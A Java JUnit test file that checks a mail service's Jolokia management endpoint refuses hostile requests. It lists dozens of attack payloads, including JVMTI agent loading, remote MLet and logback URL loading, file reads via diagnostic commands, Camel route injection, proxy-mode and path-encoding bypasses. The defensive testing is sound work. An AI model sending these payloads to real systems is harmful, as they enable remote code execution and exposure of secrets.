package org.signupmailer.management;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.http.HttpResponse;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import javax.management.InstanceNotFoundException;
import javax.management.JMException;
import javax.management.MBeanOperationInfo;
import javax.management.MBeanParameterInfo;
import javax.management.MBeanServer;
import javax.management.ObjectName;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.signupmailer.testing.SignupMailer;
import org.signupmailer.testing.TestEvents;
import org.signupmailer.testing.smtp.ScriptedSmtpServer;

/** Somebody with the login asks Jolokia for more than operators need. */
class HostileJolokiaTest {

    private static final ScriptedSmtpServer SMTP = ScriptedSmtpServer.start();
    private static final SignupMailer MAILER = SignupMailer.with().relay(SMTP).start();
    private static final String CODE = "824613";
    private static final ObjectMapper JSON = new ObjectMapper();

    private final Http http = new Http(MAILER);

    @BeforeAll
    static void mailOneCode() {
        MAILER.awaitReading();
        MAILER.publish(TestEvents.verificationCode().code(CODE));
        SMTP.awaitMails(1, SignupMailer.PATIENCE);
    }

    @AfterAll
    static void stop() {
        MAILER.close();
        SMTP.close();
    }

    // Other tests' applications come and go in this process.
    private static MBeanOperationInfo[] operations(MBeanServer server, ObjectName name) throws JMException {
        try {
            return server.getMBeanInfo(name).getOperations();
        } catch (InstanceNotFoundException e) {
            return new MBeanOperationInfo[0];
        }
    }

    @Test
    void ofAllOperationsInThisProcessOnlyThoseOnTheListAreAllowed() throws Exception {
        MBeanServer server = ManagementFactory.getPlatformMBeanServer();
        JolokiaPolicy policy = new JolokiaPolicy();
        Set<String> allowed = new TreeSet<>();
        ArrayNode refused = JSON.createArrayNode();
        for (ObjectName name : server.queryNames(null, null)) {
            for (MBeanOperationInfo operation : operations(server, name)) {
                String signature = signature(operation);
                if (policy.isOperationAllowed(name, signature)) {
                    allowed.add(name.getDomain() + " " + name.getKeyProperty("type") + " " + signature);
                } else {
                    ObjectNode request = refused.addObject();
                    request.put("type", "exec").put("mbean", name.toString()).put("operation", signature);
                    ArrayNode arguments = request.putArray("arguments");
                    for (int i = 0; i < operation.getSignature().length; i++) {
                        arguments.addNull();
                    }
                }
            }
        }

        assertThat(allowed.stream().filter(operation -> !operation.startsWith("org.signupmailer ")))
                .containsExactlyInAnyOrder(
                        "org.apache.camel context dumpRoutesAsXml()",
                        "org.apache.camel context dumpRoutesStatsAsXml(boolean,boolean)",
                        "org.apache.camel routes dumpRouteAsXml()",
                        "org.apache.camel routes dumpRouteStatsAsXml(boolean,boolean)",
                        "org.apache.camel routes isUpdateRouteEnabled()",
                        "org.apache.camel routes resume()",
                        "org.apache.camel routes start()",
                        "org.apache.camel routes stop()",
                        "org.apache.camel routes stop(java.lang.Long,java.lang.Boolean)",
                        "org.apache.camel routes stop(long)",
                        "org.apache.camel routes suspend()",
                        "org.apache.camel routes suspend(long)");
        assertThat(refused).as("what there is besides").hasSizeGreaterThan(500);
        JsonNode answers = JSON.readTree(http.jolokia(refused.toString()).body());
        assertThat(answers).hasSameSizeAs(refused);
        for (JsonNode answer : answers) {
            assertThat(answer.path("status").asInt()).as(answer.toString()).isEqualTo(403);
            assertThat(answer.has("value")).isFalse();
        }
        assertThat(MAILER.camel().isStarted()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // Runs code, reads or writes files.
                """
                {"type":"exec","mbean":"com.sun.management:type=DiagnosticCommand","operation":"compilerDirectivesAdd","arguments":["/etc/passwd"]}""",
                """
                {"type":"exec","mbean":"com.sun.management:type=DiagnosticCommand","operation":"vmSystemProperties","arguments":[]}""",
                """
                {"type":"exec","mbean":"com.sun.management:type=DiagnosticCommand","operation":"jvmtiAgentLoad","arguments":[["/tmp/x.so"]]}""",
                """
                {"type":"exec","mbean":"com.sun.management:type=HotSpotDiagnostic","operation":"dumpHeap","arguments":["/tmp/x.hprof",true]}""",
                """
                {"type":"exec","mbean":"com.sun.management:type=HotSpotDiagnostic","operation":"setVMOption","arguments":["HeapDumpPath","/tmp"]}""",
                """
                {"type":"exec","mbean":"jdk.management.jfr:type=FlightRecorder","operation":"copyTo","arguments":[1,"/tmp/x"]}""",
                """
                {"type":"exec","mbean":"java.util.logging:type=Logging","operation":"setLoggerLevel","arguments":["","ALL"]}""",
                """
                {"type":"exec","mbean":"ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator","operation":"reloadByURL","arguments":["http://192.0.2.1/x.xml"]}""",
                """
                {"type":"exec","mbean":"Users:type=UserDatabase,database=UserDatabase","operation":"createUser","arguments":["x","x","x"]}""",
                """
                {"type":"exec","mbean":"org.springframework.boot:type=Admin,name=SpringApplication","operation":"shutdown","arguments":[]}""",
                """
                {"type":"exec","mbean":"javax.management.loading:type=MLet","operation":"getMBeansFromURL","arguments":["http://192.0.2.1/"]}""",
                // Changes routes, sends or shows messages.
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=routes,name=\\"relay-primary\\"","operation":"updateRouteFromXml","arguments":["<route/>"]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=routes,name=\\"relay-primary\\"","operation":"remove","arguments":[]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"addOrUpdateRoutesFromXml","arguments":["<routes/>"]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"stop","arguments":[]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"sendBody(java.lang.String,java.lang.Object)","arguments":["file:/tmp","x"]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"requestBody(java.lang.String,java.lang.Object)","arguments":["language:simple:${bean:x}","x"]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"createEndpoint(java.lang.String)","arguments":["exec:id"]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","operation":"dumpRoutesAsXml(boolean)","arguments":[true]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=tracer,name=BacklogTracer","operation":"setEnabled","arguments":[true]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=tracer,name=BacklogTracer","operation":"dumpAllTracedMessagesAsXml","arguments":[]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=services,name=DefaultInflightRepository","operation":"browse()","arguments":[]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:context=CAMEL,type=endpoints,name=\\"direct://dead-letter\\"","operation":"browseAllMessagesAsXml","arguments":[true]}""",
                """
                {"type":"exec","mbean":"org.apache.camel:*","operation":"stop","arguments":[]}""",
                // Sees what is not for its eyes.
                """
                {"type":"read","mbean":"java.lang:type=Runtime","attribute":"SystemProperties"}""",
                """
                {"type":"read","mbean":"java.lang:type=Runtime","attribute":["InputArguments","ClassPath"]}""",
                """
                {"type":"read","mbean":"com.sun.management:type=HotSpotDiagnostic","attribute":"DiagnosticOptions"}""",
                """
                {"type":"read","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","attribute":"GlobalOptions"}""",
                """
                {"type":"read","mbean":"Tomcat:type=Server"}""",
                // Writes; asks for what Jolokia could do besides.
                """
                {"type":"write","mbean":"org.apache.camel:context=CAMEL,type=context,name=\\"CAMEL\\"","attribute":"Tracing","value":true}""",
                """
                {"type":"write","mbean":"java.lang:type=Memory","attribute":"Verbose","value":true}""",
                """
                {"type":"notification","command":"register"}""",
                """
                {"type":"config","key":"debug","value":"true"}"""
            })
    void isRefused(String request) throws Exception {
        String named = request.replace("CAMEL", MAILER.camel().getName());

        JsonNode answer = JSON.readTree(http.jolokia(named).body());

        assertThat(answer.path("status").asInt()).as(answer.toString()).isIn(400, 403, 404);
        assertThat(answer.has("value")).isFalse();
        assertThat(answer.has("stacktrace")).isFalse();
    }

    @Test
    void theProxyModeReachesNoOtherServer() throws Exception {
        try (ServerSocket other = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            other.setSoTimeout(500);

            http.jolokia("""
                    {"type":"read","mbean":"java.lang:type=Memory","attribute":"Verbose",
                     "target":{"url":"service:jmx:rmi:///jndi/rmi://127.0.0.1:%d/x"}}""".formatted(other.getLocalPort()));

            assertThatThrownBy(other::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void whatIsNotOnTheListIsNotEvenListed() throws Exception {
        JsonNode domains =
                JSON.readTree(http.jolokia("{\"type\":\"list\"}").body()).path("value");

        assertThat(domains.fieldNames())
                .toIterable()
                .containsExactlyInAnyOrder("java.lang", "org.apache.camel", "org.signupmailer");
        assertThat(domains.toString()).doesNotContain("type=tracer", "InflightRepository", "BacklogTracer");
    }

    @Test
    void readingAllThereIsShowsNoCodeNoAddressAndNoPassword() throws Exception {
        JsonNode all =
                JSON.readTree(http.jolokia("{\"type\":\"read\",\"mbean\":\"*:*\",\"config\":{\"ignoreErrors\":true}}")
                        .body());
        JsonNode runtime = JSON.readTree(http.jolokia(
                        "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"config\":{\"ignoreErrors\":true}}")
                .body());

        assertThat(all.path("value").size()).isGreaterThan(40);
        assertThat(all + " " + runtime)
                .doesNotContain(CODE, MAILER.setting("MANAGEMENT_PASSWORD"), "java.class.path\"");
        assertThat(runtime.path("value").has("Uptime")).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/actuator/jolokia/exec/java.lang:type=Memory/gc",
                "/actuator/jolokia/EXEC/java.lang:type=Memory/gc",
                "/actuator/jolokia/write/java.lang:type=Memory/Verbose/true",
                "/actuator/hawtio/jolokia/exec/org.signupmailer:type=Relay,name=primary/wake",
                "/actuator/jolokia?p=exec/org.signupmailer:type=Relay,name=primary/wake",
                "/actuator/jolokia/?%70=exec/org.signupmailer:type=Relay,name=primary/wake",
                "/actuator/jolokia/version?callback=alert",
                "/actuator/jolokia//exec/org.signupmailer:type=Relay,name=primary/wake"
            })
    void aLinkCanNotDoAnything(String path) throws Exception {
        HttpResponse<String> answer = http.get(path, "Authorization", http.login());

        assertThat(answer.statusCode()).as(answer.body()).isIn(400, 401, 403);
    }

    @Test
    void anotherOriginsPageGetsNoAnswer() throws Exception {
        for (String origin : List.of("http://evil.example", "null", "http://localhost:1")) {
            HttpResponse<String> answer =
                    http.get("/actuator/jolokia/version", "Authorization", http.login(), "Origin", origin);

            assertThat(answer.statusCode()).as(origin).isEqualTo(403);
            assertThat(answer.headers().firstValue("Access-Control-Allow-Origin"))
                    .isEmpty();
        }
    }

    private static String signature(MBeanOperationInfo operation) {
        return operation.getName()
                + Arrays.stream(operation.getSignature())
                        .map(MBeanParameterInfo::getType)
                        .collect(Collectors.joining(",", "(", ")"));
    }
}
